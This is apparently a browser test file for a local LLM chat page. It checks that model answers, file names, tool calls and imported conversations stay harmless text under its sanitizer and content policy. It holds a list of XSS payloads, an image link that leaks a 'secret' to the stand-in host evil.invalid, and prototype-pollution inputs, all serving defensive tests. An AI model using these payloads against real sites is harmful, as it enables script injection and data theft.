// What a model, a file or another page might try. The page must show it as text, run nothing, and ask nobody else.
import assert from 'node:assert/strict';
import { answerWith, idle, inWindow, say } from './page.mjs';

const kAttacks = [
  '<script>window.hit=1</script>',
  '<img src=x onerror="window.hit=1">',
  '<svg onload=window.hit=1><animate onbegin=window.hit=1 attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
  '<a href="javascript:window.hit=1">click</a>',
  '[link](javascript:window.hit=1) [other](JaVaScRiPt:window.hit=1) [tab](java\tscript:window.hit=1)',
  '[data](data:text/html,<script>parent.hit=1</script>) [vb](vbscript:x) [f](file:///etc/passwd)',
  '![picture](https://evil.invalid/leak.png?secret "title") ![x](javascript:window.hit=1)',
  '![" onerror="window.hit=1](x)',
  '[a](https://evil.invalid/"onmouseover="window.hit=1)',
  '<https://evil.invalid/x> www.evil.invalid mail@evil.invalid',
  '```"><img src=x onerror=window.hit=1>\ncode\n```',
  '```html\n<img src=x onerror=window.hit=1>\n```',
  '```js\n</code></pre><script>window.hit=1</script>\n```',
  '$\\href{javascript:window.hit=1}{x}$ $\\url{javascript:window.hit=1}$ $\\includegraphics{https://evil.invalid/x.png}$',
  '$\\htmlClass{x}{y} \\htmlStyle{color:red}{y} \\htmlData{copy=1}{y}$',
  '$$\\text{<img src=x onerror=window.hit=1>}</math><script>window.hit=1</script>$$',
  '$\\def\\a{\\a\\a}\\a$ $\\rule{1000em}{1000em}$',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>',
  '| a | <img src=x onerror=window.hit=1> |\n|---|---|\n| `<b>` | <script>window.hit=1</script> |',
  '<form action="https://evil.invalid"><button formaction="javascript:window.hit=1">send</button></form>',
  '<button data-copy onclick="window.hit=1">copy</button>',
  '<style>body{display:none}</style><link rel=stylesheet href=https://evil.invalid/x.css>',
  '<base href="https://evil.invalid/"><meta http-equiv=refresh content="0;url=https://evil.invalid/">',
  '[x]: javascript:window.hit=1\n[x]\n[y]: <javascript:window.hit=1> "t"\n[y]',
  '&lt;img src=x onerror=window.hit=1&gt; &#60;script&#62;window.hit=1&#60;/script&#62;',
  '\u202E\u0000<scr\u0000ipt>window.hit=1</script>',
  `${'>'.repeat(300)} deep ${'['.repeat(3000)} ${'*'.repeat(3000)}`,
];

/** Elements that nothing a model writes may become. */
const kForbidden = '.message :is(script, style, link, meta, base, iframe, object, embed, form:not(.editor, .call-answer), input, img, video, audio, svg:not(.icon), animate)';

async function expectHarmless(page, seen) {
  assert.equal(await page.evaluate(() => window.hit), undefined, 'code of the model ran');
  assert.equal(await page.locator(kForbidden).count(), 0, await page.locator(kForbidden).first().evaluateAll((all) => all.map((e) => e.outerHTML).join()));
  const handlers = await page.evaluate(() => Array.from(document.querySelectorAll('.message *')).filter((e) => Array.from(e.attributes).some((a) => a.name.startsWith('on') || a.name === 'style' || a.name === 'srcdoc')).map((e) => e.outerHTML));
  assert.deepEqual(handlers, []);
  const links = await page.evaluate(() => Array.from(document.querySelectorAll('.message a'), (a) => ({ href: a.href, rel: a.rel, target: a.target })));
  for (const { href, rel, target } of links) {
    assert.match(href, /^(https?:|mailto:|$)/, href);
    assert.match(rel, /noopener/);
    assert.equal(target, '_blank');
  }
  assert.deepEqual(seen.foreign, []);
  assert.ok(await page.locator('#message').isVisible());
}

export function watch(page, url) {
  const seen = { foreign: [], policy: [] };
  page.on('request', (request) => {
    if (!request.url().startsWith(url) && !/^(blob|data):/.test(request.url())) seen.foreign.push(request.url());
  });
  page.on('console', (message) => {
    if (/Content.Security.Policy|TrustedHTML/i.test(message.text())) seen.policy.push(message.text());
  });
  return seen;
}

export const tests = {
  async 'attacks in the text of a model are text'({ page, url }) {
    const seen = watch(page, url);
    for (const attack of kAttacks) {
      await answerWith(page, `Before.\n\n${attack}\n\nAfter, $x^2$ and \`code\`.`, { reasoning_content: attack });
      await page.keyboard.press('Alt+N');
      await page.fill('#message', attack);
      await page.keyboard.press('Enter');
      await page.locator('.message.assistant .stats').waitFor().catch(() => assert.fail(`no answer with ${attack.slice(0, 200)}`));
      await page.locator('.fold summary').click();
      await idle(page);
      await expectHarmless(page, seen);
      await page.unroute('**/v1/chat/completions');
    }
    // Titles in the list, a reload, the same from the browser's store.
    await page.reload();
    await page.locator('.message.assistant').waitFor();
    await expectHarmless(page, seen);
    assert.deepEqual(seen.policy, [], 'the policy had to step in: the sanitizer let something through');
  },

  async 'attacks in names of files, tools, presets and models are text'({ page, url }) {
    const seen = watch(page, url);
    const name = '"><img src=x onerror=window.hit=1>';
    await page.route('**/hearth/state', async (route) => {
      const state = await (await route.fetch()).json();
      state.models.push({ ...state.models[0], name, title: name, quantization: name, state: 'idle', loaded: undefined, fit: { verdict: name, kv_type: name } });
      await route.fulfill({ json: state });
    });
    await page.route('**/hearth/load', (route) => route.fulfill({ status: 500, json: { error: { message: name } } }));
    await page.reload();
    await page.locator('.model-button', { hasText: 'small-world' }).waitFor();
    await inWindow(page, 'Alt+M', async () => {
      await page.locator('.models .model-name', { hasText: name }).waitFor();
      await page.locator('.models li', { hasText: 'onerror' }).first().locator('button').click();
      await page.locator('.notice', { hasText: 'onerror' }).waitFor();
    });
    await page.keyboard.press('Alt+P');
    await page.locator('input[aria-label="Name of the preset"]').fill(name);
    await page.locator('.panel form button').click();
    await page.locator('.composer input[type=file]').setInputFiles({ name: `${name}.txt`, mimeType: 'text/plain', buffer: Buffer.from('<script>window.hit=1</script>') });
    await page.locator('.attached li').waitFor();
    await page.fill('#message', 'x');
    await page.keyboard.press('Enter');
    await page.locator('.message .error', { hasText: 'onerror' }).waitFor();
    await expectHarmless(page, seen);
    await answerWith(page, '', { tool_calls: [{ index: 0, id: name, function: { name, arguments: '</pre><script>window.hit=1</script>' } }] });
    await page.unroute('**/hearth/load');
    await page.route('**/hearth/load', (route) => route.fulfill({ json: {} }));
    await page.locator('button[aria-label="Regenerate"]').click();
    await page.locator('.call').waitFor();
    await idle(page);
    await expectHarmless(page, seen);
  },

  async 'attacks in imported files are text, and circles end'({ page, url }) {
    const seen = watch(page, url);
    const evil = '<img src=x onerror=window.hit=1>';
    const nodes = {
      a: { id: 'a', parent: null, role: 'assistant', content: evil, created: 1, model: evil, error: evil, files: [{ name: evil, text: evil }], calls: [{ id: evil, name: evil, arguments: evil }] },
      b: { id: 'b', parent: 'c', role: 'user', content: 'circle', created: 1 },
      c: { id: 'c', parent: 'b', role: 'user', content: 'circle', created: 1 },
      d: { id: '__proto__', parent: 'a', role: 'user', content: evil, created: 1e400 },
      e: { id: 'e', parent: 'a', role: 'system', content: 'no such role' },
      f: null,
    };
    const file = { format: 'hearth-conversations', conversations: [{ id: '__proto__', title: evil, nodes, leaf: 'c' }, 7, null], presets: { [evil]: { parameters: { temperature: 'x', top_k: 3 }, stop: 'x' }, __proto__: {} } };
    await page.locator('input[type=file][accept]').setInputFiles({ name: 'x.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(file)) });
    await page.locator('.entry', { hasText: 'onerror' }).click();
    await page.locator('.message').first().waitFor();
    await expectHarmless(page, seen);
  },

  async 'the policy refuses what is put in from outside'({ page, url }) {
    const seen = watch(page, url);
    const outcome = await page.evaluate(() => {
      const tried = {};
      const attempt = (name, action) => {
        try {
          action();
          tried[name] = 'done';
        } catch (error) {
          tried[name] = error.name;
        }
      };
      attempt('innerHTML', () => (document.createElement('div').innerHTML = '<b>x</b>'));
      attempt('policy', () => trustedTypes.createPolicy('mine', { createHTML: (text) => text }));
      attempt('inline', () => document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.hit=1' })));
      return tried;
    });
    assert.equal(outcome.innerHTML, 'TypeError');
    assert.equal(outcome.policy, 'TypeError');
    assert.equal(await page.evaluate(() => window.hit), undefined);
    assert.equal(await page.evaluate(() => fetch('https://evil.invalid/').then(() => 'sent', () => 'refused')), 'refused');
    await page.evaluate(() => new Promise((done) => {
      const frame = document.body.appendChild(document.createElement('iframe'));
      frame.onload = frame.onerror = done;
      frame.src = 'https://evil.invalid/';
      setTimeout(done, 300);
    }));
    assert.ok(seen.policy.length >= 2, 'the browser said what it refused');
  },

  async 'a key is asked for and then sent'({ page, keyed }) {
    await page.goto(keyed.url);
    await page.locator('dialog input[type=password]').fill('secret');
    await page.keyboard.press('Enter');
    await page.locator('.model-button', { hasText: 'small-world' }).waitFor();
    assert.match(await say(page, 'What is 71 plus 11?'), /\d/);
  },
};
